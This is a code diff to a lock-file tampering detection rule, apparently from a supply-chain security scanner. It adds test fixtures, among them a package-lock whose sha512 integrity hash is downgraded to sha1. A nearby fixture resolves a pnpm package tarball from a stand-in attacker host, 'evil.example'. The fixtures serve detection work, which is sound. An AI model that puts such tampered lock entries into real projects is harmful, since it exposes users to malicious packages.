@@ -190,7 +190,12 @@ export const lockFileTampering: SignalRule = {
           at: `git+ssh://git@github.com/a/lodash.git#${digits.repeat(2)}01234567`,
         }),
       },
+      {
+        'package.json': '{"name": "shop", "dependencies": {"chalk": "^5.0.0"}}',
+        'package-lock.json': lock(),
+      },
       { 'package-lock.json': lock({ name: 'injected', seed: 9 }) },
+      { 'package-lock.json': lock().replace(/sha512-[^"]+/, `sha1-${hashOf(1).slice(0, 27)}=`) },
       {
         'pnpm-lock.yaml': `lockfileVersion: '9.0'\n\npackages:\n\n${['a', 'b', 'c', 'd'].map((name) => `  pkg-${name}@1.0.0:\n    resolution: {integrity: sha512-${hashOf(1)}}\n`).join('\n')}\n  pkg-e@1.0.0:\n    resolution: {tarball: https://evil.example/pkg-e-1.0.0.tgz}\n`,
       },
@@ -220,7 +225,10 @@ export const lockFileTampering: SignalRule = {
           at: `git+ssh://git@github.com/a/lodash.git#${digits.repeat(2)}01234567`,
         }),
       },
-      { 'package-lock.json': lock() },
+      {
+        'package.json': '{"name": "shop", "dependencies": {"chalk": "^4.0.0"}}',
+        'package-lock.json': lock(),
+      },
       { 'uv.lock': uv(['flask', pypi], ['click', pypi], ['jinja2', pypi], ['idna', pypi]) },
       {
         'pyproject.toml': '[[tool.uv.index]]\nname = "own"\nurl = "https://pypi.acme.example/simple"\n',
